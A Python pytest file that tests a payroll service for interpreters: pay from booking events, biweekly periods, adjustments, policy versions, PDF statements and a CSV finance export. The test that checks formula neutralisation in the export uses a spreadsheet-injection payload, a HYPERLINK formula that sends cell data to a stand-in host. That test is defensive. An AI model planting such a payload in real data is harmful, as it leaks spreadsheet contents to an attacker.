"""PayrollApp over the store ports (mongomock and SQLite): remunerations from booking events, profiles
from auth events, pay periods and adjustments, policy versions, exports, and the rebuild."""
from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import datetime, timezone
from decimal import Decimal

import pytest

from ims_common.errors import Conflict, Forbidden, NotFound, ValidationFailed
from ims_common.nameko_ext import Stores
from services.payroll import bootstrap
from services.payroll.domain.periods import PeriodCalendar

from .timeline import Source

COORD = {"user_id": "UCOOR1", "role": "coordinator"}
ADMIN = {"user_id": "UADMIN1", "role": "admin"}
INES = {"user_id": "UINES", "role": "interpreter"}
OTTO = {"user_id": "UOTTO", "role": "interpreter"}
NOW = datetime(2024, 12, 2, 15, 0, tzinfo=timezone.utc)


_numbers = itertools.count(1)


def created(src: Source, start_at: str, minutes: int = 120, mode: str = "video", cost_center="7301110") -> str:
    number = f"HC-2445{next(_numbers):04d}"
    src.add(f"booking-{number}", "BookingCreated", {
        "number": number, "mode": mode, "establishment": "HC", "cost_center": cost_center,
        "date": start_at[:10], "duration_minutes": minutes, "start_at": start_at, "end_at": start_at,
        "status": "pending"})
    return number


def report(start: str, end: str, **extra) -> dict:
    return {"provided": True, "actual_start": start, "actual_end": end, "wait_minutes": 0,
            "distance_km": "0", "travel_minutes": 0, "communications": [], "words": 0,
            "other_fees_cents": 0, "additional_service": False, "comments": "", **extra}


@pytest.fixture(params=["mongomock", "sqlite"])
def stores(request, tmp_path):
    url = f"mongomock://payroll_{next(_numbers)}" if request.param == "mongomock" else f"sqlite:///{tmp_path / 'p.sqlite3'}"
    opened = Stores(url)
    yield opened
    opened.close()


@pytest.fixture
def world(stores):
    app = bootstrap.build(stores, clock=lambda: NOW)
    return app, Source(), Source()


def feed(app, booking: Source, auth: Source):
    app.catch_up(booking.events_since)
    app.catch_up_auth(auth.events_since)


def served(booking: Source, start_at: str, start: str, end: str, who=INES, close=True, **kw) -> str:
    bid = created(booking, start_at, **kw)
    booking.add(f"booking-{bid}", "BookingAssigned", {"interpreter_id": who["user_id"]})
    booking.add(f"booking-{bid}", "ServiceProvided", {"report": report(start, end),
                                                      "interpreter_id": who["user_id"]})
    if close:
        booking.add(f"booking-{bid}", "BookingClosed", {"comment": None})
    return bid


def no_float(value):
    assert not isinstance(value, float)
    for v in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        no_float(v)


def test_provisional_then_final_each_published_once(world):
    app, booking, auth = world
    bid = served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00",
                 close=False)
    feed(app, booking, auth)
    item = app.get_remuneration(INES, bid)["items"][0]
    assert (item["kind"], item["demande"], item["total"], item["period_id"]) == ("provisional", "82.00", "82.00",
                                                                                 "2024-11-03")
    booking.add(f"booking-{bid}", "BookingClosed", {"comment": "ok"})
    feed(app, booking, auth)
    feed(app, booking, auth)  # nothing new: nothing published again
    assert app.get_remuneration(COORD, bid)["items"][0]["kind"] == "final"
    published = app.events_since(0, 100)
    assert [e["data"]["kind"] for e in published] == ["provisional", "final"]
    assert published[0]["data"]["remuneration"]["policy_version"] == "BI-2024-11-04"
    no_float(published)


def test_only_its_interpreter_and_coordinators_see_a_remuneration(world):
    app, booking, auth = world
    bid = served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
    feed(app, booking, auth)
    assert app.get_remuneration(ADMIN, bid)["items"][0]["interpreter_id"] == "UINES"
    for who in (OTTO, {"user_id": "UREQ", "role": "requester", "establishment": "HC"}):
        with pytest.raises(NotFound):
            app.get_remuneration(who, bid)
    with pytest.raises(NotFound):
        app.get_remuneration(COORD, "HC-00000000")


def test_profile_arriving_later_recomputes_with_taxes_and_names_the_supplier(world):
    app, booking, auth = world
    bid = served(booking, "2024-11-07T16:00:00Z", "2024-11-07T11:00:00-05:00", "2024-11-07T13:00:00-05:00")
    auth.add("account-UINES", "AccountCreated", {"user_id": "UINES", "role": "interpreter",
                                                 "first_name": "Ines", "last_name": "Paie"})
    feed(app, booking, auth)
    assert app.get_remuneration(INES, bid)["items"][0]["total"] == "82.00"
    auth.add("account-UINES", "ProfileUpdated", {
        "user_id": "UINES", "role": "interpreter", "first_name": "Ines", "last_name": "Paie",
        "financial": {"legal_name": "Ines Paie", "supplier_number": "F-1", "gst_registered": True,
                      "gst_from": "2020-01-01", "gst_to": None, "qst_registered": True,
                      "qst_from": "2020-01-01", "qst_to": None}})
    feed(app, booking, auth)
    item = app.get_remuneration(INES, bid)["items"][0]
    assert (item["gst"], item["qst"], item["total"]) == ("4.10", "8.18", "94.28")
    rows = list(csv.DictReader(io.StringIO(app.export_csv(COORD, "2024-11-03").removeprefix("\ufeff"))))
    assert rows == [{"interpreter_id": "UINES", "supplier_number": "F-1", "legal_name": "Ines Paie",
                     "state": "final", "demande": "82.00", "distance": "0.00", "travel_time": "0.00",
                     "phone_communications": "0.00", "words": "0.00", "other_fees": "0.00",
                     "extra_fees": "0.00", "subtotal": "82.00", "gst": "4.10", "qst": "8.18", "total": "94.28"}]


def test_after_a_period_is_closed_a_change_is_an_adjustment_in_the_next_open_period(world):
    app, booking, auth = world
    bid = served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
    feed(app, booking, auth)
    app.close_period(COORD, "2024-11-03")
    app.close_period(COORD, "2024-11-17")
    with pytest.raises(Conflict):
        app.close_period(COORD, "2024-11-03")
    with pytest.raises(Forbidden):
        app.close_period(INES, "2024-12-01")
    with pytest.raises(ValidationFailed):
        app.close_period(COORD, "2024-11-04")   # not the first day of a period
    booking.add(f"booking-{bid}", "ServiceReportCorrected", {"report": report(
        "2024-11-05T11:00:00-05:00", "2024-11-05T13:30:00-05:00", overtime_reason="retard"), "by_role": "coordinator"})
    feed(app, booking, auth)
    item = app.get_remuneration(INES, bid)["items"][0]
    assert item["total"] == "102.50"
    assert [(e["period_id"], e["kind"], e["total"]) for e in item["entries"]] == [
        ("2024-11-03", "final", "82.00"), ("2024-12-01", "adjustment", "20.50")]
    assert app.statement(INES, "2024-11-03")["totals"]["total"] == "82.00"
    assert app.statement(INES, "2024-12-01")["items"][0]["kind"] == "adjustment"
    assert app.events_since(0, 100)[-1]["data"]["kind"] == "adjustment"
    # Back to the closed amount: the adjustment disappears, the closed period is untouched.
    booking.add(f"booking-{bid}", "ServiceReportCorrected", {"report": report(
        "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00"), "by_role": "coordinator"})
    feed(app, booking, auth)
    assert [e["period_id"] for e in app.get_remuneration(INES, bid)["items"][0]["entries"]] == ["2024-11-03"]


def test_cancellations_and_withdrawals_pay_their_communications(world):
    app, booking, auth = world
    late = created(booking, "2024-11-20T19:00:00Z")
    booking.add(f"booking-{late}", "BookingAssigned", {"interpreter_id": "UINES"})
    booking.add(f"booking-{late}", "BookingCancelled", {"cancelled_at": "2024-11-19T15:00:00Z",
                                                       "reason": "x", "previous_status": "booked"})
    early = created(booking, "2024-11-21T14:00:00Z")
    booking.add(f"booking-{early}", "BookingAssigned", {"interpreter_id": "UINES"})
    booking.add(f"booking-{early}", "BookingWithdrawn", {
        "interpreter_id": "UINES", "reason": "malade",
        "communications": [{"at": "2024-11-15T15:00:00Z", "purpose": "appel"}]},
        at="2024-11-18T14:00:00Z", actor=INES)
    booking.add(f"booking-{early}", "BookingAssigned", {"interpreter_id": "UOTTO"})
    booking.add(f"booking-{early}", "BookingCancelled", {"cancelled_at": "2024-11-18T14:00:00Z",
                                                        "reason": "y", "previous_status": "booked"})
    booking.add(f"booking-{early}", "ServiceProvided", {"interpreter_id": "UOTTO", "report": {
        "provided": False, "reason": "annulé", "cancelled_at": "2024-11-18T14:00:00Z",
        "communications": [{"at": "2024-11-15T15:00:00Z", "purpose": "a"},
                           {"at": "2024-11-15T19:00:00Z", "purpose": "b"}]}})
    feed(app, booking, auth)
    assert app.get_remuneration(INES, late)["items"][0]["total"] == "82.00"
    ines = app.get_remuneration(INES, early)["items"]
    assert [(i["withdrawal"], i["phone_communications"]) for i in ines] == [(True, "10.25")]
    assert app.get_remuneration(OTTO, early)["items"][0]["phone_communications"] == "20.50"
    assert len(app.get_remuneration(COORD, early)["items"]) == 2
    billing = app.billing(COORD, "2024-11-17")
    assert billing["totals"]["total"] == "112.75" and billing["items"][0]["bookings"] == 2


def test_policy_versions_are_data_added_by_admins_only_and_never_retroactive(world):
    app, booking, auth = world
    assert [p["version"] for p in app.list_policies(COORD)] == ["BI-legacy", "BI-2024-11-04"]
    with pytest.raises(Forbidden):
        app.add_policy(COORD, {"version": "V3", "effective_from": "2025-06-01"})
    with pytest.raises(Forbidden):
        app.list_policies(INES)
    for bad in ({"version": "V3", "effective_from": "2024-12-01"},           # not after today
                {"version": "V3", "effective_from": "2025-06-01", "hourly_rate": 45.5},   # a float
                {"version": "V3", "effective_from": "2025-06-01", "hourly_rate": "-1"},
                {"version": "BI-legacy", "effective_from": "2025-06-01"},
                {"version": "V3", "effective_from": "2025-06-01", "bogus": 1}):
        with pytest.raises(ValidationFailed):
            app.add_policy(ADMIN, bad)
    for bad, code, field in (({"version": "V3", "effective_from": "2024-12-01"}, "payroll.policy_not_after",
                              "effective_from"),
                             ({"version": "BI-legacy", "effective_from": "2025-06-01"}, "payroll.policy_version_taken",
                              "version")):
        with pytest.raises(ValidationFailed) as refused:
            app.add_policy(ADMIN, bad)
        assert refused.value.code == code and list(refused.value.fields) == [field]
    added = app.add_policy(ADMIN, {"version": "V3", "effective_from": "2025-06-01", "hourly_rate": "45.00"})
    assert added["hourly_rate"] == "45.00" and added["gst_rate"] == "0.05"
    bid = served(booking, "2025-06-03T15:00:00Z", "2025-06-03T11:00:00-04:00", "2025-06-03T13:00:00-04:00")
    feed(app, booking, auth)
    item = app.get_remuneration(INES, bid)["items"][0]
    assert (item["policy_version"], item["total"]) == ("V3", "90.00")


def test_rebuild_from_zero_gives_identical_totals(world):
    app, booking, auth = world
    a = served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
    served(booking, "2024-11-06T14:00:00Z", "2024-11-06T09:00:00-05:00", "2024-11-06T09:30:00-05:00", who=OTTO)
    feed(app, booking, auth)
    app.close_period(COORD, "2024-11-03")
    booking.add(f"booking-{a}", "ServiceReportCorrected", {"report": report(
        "2024-11-05T11:00:00-05:00", "2024-11-05T14:00:00-05:00", overtime_reason="r"), "by_role": "coordinator"})
    auth.add("account-UINES", "ProfileUpdated", {"user_id": "UINES", "role": "interpreter", "financial": {
        "gst_registered": True, "gst_from": None, "gst_to": None, "qst_registered": False}})
    feed(app, booking, auth)
    app.add_policy(ADMIN, {"version": "V3", "effective_from": "2025-01-05", "hourly_rate": "50.00"})
    served(booking, "2025-01-07T16:00:00Z", "2025-01-07T11:00:00-05:00", "2025-01-07T13:00:00-05:00")
    feed(app, booking, auth)
    before = app.totals()
    published = len(app.events_since(0, 1000))
    assert before["periods"]["2024-11-17"]["UINES"]["total"] == "47.15"   # 123,00 + GST - 82,00 closed
    assert before["periods"]["2024-12-29"]["UINES"]["total"] == "105.00"  # V3: 100,00 + GST

    after = app.rebuild(booking.events_since, auth.events_since)
    assert after == before
    assert json.loads(json.dumps(after)) == before
    assert len(app.events_since(0, 1000)) == published   # a rebuild publishes nothing
    assert app.list_periods(COORD)[-1]["status"] == "closed"


def test_periods_are_biweekly_from_the_anchor():
    cal = PeriodCalendar()
    from datetime import date
    assert cal.period_of(date(2024, 11, 3)) == "2024-11-03"
    assert cal.period_of(date(2024, 11, 16)) == "2024-11-03"
    assert cal.period_of(date(2024, 11, 17)) == "2024-11-17"
    assert cal.period_of(date(2024, 11, 2)) == "2024-10-20"
    assert cal.end("2024-11-03") == date(2024, 11, 16) and cal.next("2024-11-03") == "2024-11-17"
    with pytest.raises(ValueError):
        cal.start("2024-11-04")


def pdf_text(pdf: bytes) -> str:
    """The text drawn on the pages (fpdf2 compresses each page's content stream)."""
    import re
    import zlib
    out = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            content = zlib.decompress(stream)
        except zlib.error:
            continue
        out += [s.replace(rb"\(", b"(").replace(rb"\)", b")").decode("latin-1")
                for s in re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", content)]
    return "\n".join(out).replace("\xa0", " ")   # multi_cell draws a no-break space as a space


def test_statement_pdf_renders_each_line_with_its_rule_in_the_readers_language(world):
    app, booking, auth = world
    served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:30:00-05:00")
    feed(app, booking, auth)
    import base64
    pdf = base64.b64decode(app.statement_pdf(INES, "2024-11-03", None)["content_base64"])
    assert pdf.startswith(b"%PDF") and b"/Type /Page" in pdf
    text = pdf_text(pdf)
    assert "Relevé de rémunération" in text and "Demande 82,00 $ : 2 h minimum à 41,00 $/h" in text
    assert "limité au prévu, politique BI-2024-11-04" in text       # 30 min of overtime with no reason
    english = pdf_text(base64.b64decode(app.statement_pdf(dict(INES, lang="en"), "2024-11-03", None)["content_base64"]))
    assert "Pay statement" in english and "Service fee $82.00: 2 h minimum at $41.00/h" in english
    assert "Relevé" not in english and "politique" not in english
    with pytest.raises(NotFound):
        app.statement(INES, "2024-11-03", "UOTTO")
    with pytest.raises(ValidationFailed):
        app.statement(COORD, "2024-11-03")


def test_a_validated_cancellation_is_final(world):
    """A cancelled booking that carries a report goes through the coordinator's validation like a
    provided one: BookingClosed makes its remuneration final, the booking staying cancelled."""
    app, booking, auth = world
    bid = created(booking, "2024-11-21T14:00:00Z")
    booking.add(f"booking-{bid}", "BookingAssigned", {"interpreter_id": "UINES"})
    booking.add(f"booking-{bid}", "BookingCancelled", {"cancelled_at": "2024-11-18T14:00:00Z",
                                                      "reason": "y", "previous_status": "booked"})
    booking.add(f"booking-{bid}", "ServiceProvided", {"interpreter_id": "UINES", "report": {
        "provided": False, "reason": "annulé", "cancelled_at": "2024-11-18T14:00:00Z",
        "communications": [{"at": "2024-11-15T15:00:00Z", "purpose": "a"}]}})
    feed(app, booking, auth)
    assert app.get_remuneration(INES, bid)["items"][0]["kind"] == "provisional"
    booking.add(f"booking-{bid}", "BookingClosed", {"comment": "ok"})
    feed(app, booking, auth)
    item = app.get_remuneration(INES, bid)["items"][0]
    assert (item["kind"], item["total"]) == ("final", "10.25")
    assert app.events_since(0, 100)[-1]["data"]["kind"] == "final"


def test_the_finance_export_neutralises_formulas_has_a_bom_and_marks_each_lines_state(world):
    """A legal name =HYPERLINK(...), a supplier number +1 and accents; a final amount and a
    provisional one of the same interpreter are two lines, each with its state."""
    app, booking, auth = world
    served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
    served(booking, "2024-11-06T16:00:00Z", "2024-11-06T11:00:00-05:00", "2024-11-06T13:00:00-05:00", close=False)
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Détails")'
    auth.add("account-UINES", "ProfileUpdated", {"user_id": "UINES", "role": "interpreter", "financial": {
        "legal_name": evil, "supplier_number": "+1", "gst_registered": False, "qst_registered": False}})
    auth.add("account-UOTTO", "ProfileUpdated", {"user_id": "UOTTO", "role": "interpreter", "financial": {
        "legal_name": "Hélène Lévesque-Côté", "supplier_number": "@F-9", "gst_registered": False}})
    served(booking, "2024-11-07T16:00:00Z", "2024-11-07T11:00:00-05:00", "2024-11-07T13:00:00-05:00", who=OTTO)
    feed(app, booking, auth)
    text = app.export_csv(COORD, "2024-11-03")
    assert text.startswith("\ufeffinterpreter_id,") and text.encode("utf-8")[:3] == b"\xef\xbb\xbf"
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [(r["interpreter_id"], r["legal_name"], r["supplier_number"], r["state"], r["total"]) for r in rows] == [
        ("UINES", "'" + evil, "'+1", "final", "82.00"), ("UINES", "'" + evil, "'+1", "provisional", "82.00"),
        ("UOTTO", "Hélène Lévesque-Côté", "'@F-9", "final", "82.00")]


def test_only_a_period_that_has_ended_can_be_closed(world):
    app, booking, auth = world                     # today: 2024-12-02, in the period 2024-12-01..14
    for period in ("2030-05-26", "2024-12-01"):
        with pytest.raises(Conflict) as caught:
            app.close_period(COORD, period)
        assert caught.value.code == "payroll.period_not_ended"
    assert caught.value.params == {"period": "2024-12-01", "end": "2024-12-14"}
    assert [(p["id"], p["ended"]) for p in app.list_periods(COORD)] == [("2024-12-01", False)]
    assert app.close_period(COORD, "2024-11-17")["status"] == "closed"   # ended on 2024-11-30


def test_closing_needs_each_provisional_amount_validated_or_carried(world):
    """The period lists the provisional amounts it holds; closing is refused while one is neither
    validated nor carried; a carried amount goes whole to the next open period, still provisional,
    and becomes final there when its booking is validated. The export marks each line's state."""
    app, booking, auth = world
    done = served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
    waiting = served(booking, "2024-11-06T16:00:00Z", "2024-11-06T11:00:00-05:00", "2024-11-06T13:00:00-05:00",
                     close=False)
    nothing = created(booking, "2024-11-07T16:00:00Z")      # cancelled on time: 0,00, nothing to validate
    booking.add(f"booking-{nothing}", "BookingAssigned", {"interpreter_id": "UOTTO"})
    booking.add(f"booking-{nothing}", "BookingCancelled", {"cancelled_at": "2024-11-01T14:00:00Z",
                                                          "reason": "x", "previous_status": "booked"})
    feed(app, booking, auth)
    detail = app.get_period(COORD, "2024-11-03")
    assert detail["provisional"] == 1 and [(i["key"], i["total"]) for i in detail["provisional_items"]] == [
        (f"{waiting}:UINES", "82.00")]
    # Per interpreter (the statements the period pays) and the period's totals.
    by_id = {s["interpreter_id"]: s for s in detail["statements"]}
    assert by_id["UINES"]["provisional"] == 1
    assert sum(Decimal(s["total"]) for s in by_id.values()) == Decimal(detail["totals"]["total"])
    with pytest.raises(Forbidden):
        app.get_period(INES, "2024-11-03")
    with pytest.raises(Conflict) as caught:
        app.close_period(COORD, "2024-11-03")
    assert (caught.value.code, caught.value.params["count"]) == ("payroll.period_has_provisional", 1)
    with pytest.raises(ValidationFailed):
        app.close_period(COORD, "2024-11-03", [f"{done}:UINES", f"{waiting}:UINES"])   # done is final
    with pytest.raises(ValidationFailed):
        app.close_period(COORD, "2024-11-03", "everything")
    closed = app.close_period(COORD, "2024-11-03", [f"{waiting}:UINES"])
    assert (closed["status"], closed["carried"], closed["provisional"], closed["total"]) == ("closed", 1, 0, "82.00")
    assert [e["period_id"] for e in app.get_remuneration(INES, waiting)["items"][0]["entries"]] == ["2024-11-17"]
    assert app.get_period(COORD, "2024-11-17")["provisional"] == 1
    states = [(r["state"], r["total"]) for r in csv.DictReader(io.StringIO(
        app.export_csv(COORD, "2024-11-17").removeprefix("\ufeff")))]
    assert states == [("provisional", "82.00")]
    booking.add(f"booking-{waiting}", "BookingClosed", {"comment": "ok"})
    feed(app, booking, auth)
    item = app.get_remuneration(INES, waiting)["items"][0]
    assert item["kind"] == "final" and [(e["period_id"], e["kind"], e["total"]) for e in item["entries"]] == [
        ("2024-11-17", "final", "82.00")]
    assert app.get_period(COORD, "2024-11-17")["provisional"] == 0
    assert app.close_period(COORD, "2024-11-17")["status"] == "closed"
    live = app.totals()
    after = app.rebuild(booking.events_since, auth.events_since)      # the carry replayed where it was decided
    assert after == live and after["periods"]["2024-11-17"]["UINES"]["total"] == "82.00"


HMR = {"code": "HC-HMR", "label_fr": "Hôpital Maisonneuve-Rosemont", "label_en": "Hôpital Maisonneuve-Rosemont",
       "establishment": "HC", "postal_code": "H1T 2M4", "latitude": 45.5745, "longitude": -73.558}
LANAUDIERE = {"code": "14", "label_fr": "Lanaudière", "label_en": "Lanaudière", "head_office_name": "CISSS de Lanaudière",
              "city": "Joliette", "postal_code": "J6E 5X7", "latitude": 46.016, "longitude": -73.437}


def reference_item(src: Source, kind: str, item: dict, change: bool = False) -> None:
    src.add(f"reference-{kind}-{item['code']}", "ReferenceItemChanged" if change else "ReferenceItemCreated",
            {"kind": kind, "id": item["code"], "item": item})


def in_person_claim(booking: Source, km: str, close: bool = False) -> str:
    bid = created(booking, "2024-11-05T16:00:00Z", mode="in_person")
    booking.add(f"booking-{bid}", "BookingModified", {"changes": {"facility": "hopital maisonneuve rosemont"},
                                                     "status": "pending"})
    booking.add(f"booking-{bid}", "BookingAssigned", {"interpreter_id": "UINES"})
    booking.add(f"booking-{bid}", "ServiceProvided", {"report": report(
        "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00", distance_km=km), "interpreter_id": "UINES"})
    if close:
        booking.add(f"booking-{bid}", "BookingClosed", {"comment": None})
    return bid


def test_the_mileage_check_follows_the_reference_data_until_validation_then_keeps_what_was_validated(world):
    """Payroll keeps a copy of the reference data (reference.events, gaps through events_since): a
    claim is flagged while the facility is unknown, checked once it arrives (the head office of the
    interpreter's main region is the origin); once validated it keeps those figures whatever the
    reference data or the interpreter's address become; a rebuild reaches the same amounts."""
    app, booking, auth = world
    ref = Source()
    auth.add("account-UINES", "ProfileUpdated", {"user_id": "UINES", "role": "interpreter",
                                                 "region": "14-Lanaudière", "postal_code": "J6E 1A1"})
    bid = in_person_claim(booking, "450")
    feed(app, booking, auth)
    item = app.get_remuneration(COORD, bid)["items"][0]
    assert (item["distance"], item["inputs"]["computed_km"]) == ("432.00", None) and "mileage_unverified" in item["flags"]
    reference_item(ref, "facility", HMR)
    reference_item(ref, "region", LANAUDIERE)
    app.catch_up_reference(ref.events_since)
    item = app.get_remuneration(COORD, bid)["items"][0]
    assert (item["distance"], item["inputs"]["computed_km"], item["inputs"]["computed_from"]) == (
        "60.00", "62.5", "head_office")
    assert item["flags"] == ["mileage_reduced"] and "réclamé : 450" in item["rules"]["distance"]["fr"]
    line = next(x for x in item["lines"] if x["key"] == "distance")
    assert line["rule"]["en"].startswith("125\xa0km paid at $0.48/km")
    assert app.health()["reference_checkpoint"] == 2

    booking.add(f"booking-{bid}", "BookingClosed", {"comment": "Vérifié"})
    feed(app, booking, auth)
    assert app.get_remuneration(COORD, bid)["items"][0]["kind"] == "final"
    moved = dict(HMR, latitude=46.0, longitude=-73.44)                 # next to Joliette now
    reference_item(ref, "facility", moved, change=True)
    app.catch_up_reference(ref.events_since)
    auth.add("account-UINES", "ProfileUpdated", {"user_id": "UINES", "role": "interpreter", "region": "06-Montréal",
                                                 "home_coordinates": {"lat": 45.65, "lon": -73.58}})
    feed(app, booking, auth)
    item = app.get_remuneration(COORD, bid)["items"][0]
    assert (item["kind"], item["distance"], item["inputs"]["computed_km"]) == ("final", "60.00", "62.5")

    other = in_person_claim(booking, "20")              # not validated: today's reference data and home
    feed(app, booking, auth)
    fresh = app.get_remuneration(COORD, other)["items"][0]
    assert (fresh["inputs"]["computed_from"], fresh["distance"]) == ("home", "19.20")    # 20 km claimed, within the margin
    live = app.totals()
    details = {r["key"]: r["detail"] for r in app.docs.find("remunerations")}
    assert app.rebuild(booking.events_since, auth.events_since, ref.events_since) == live
    assert {r["key"]: r["detail"] for r in app.docs.find("remunerations")} == details
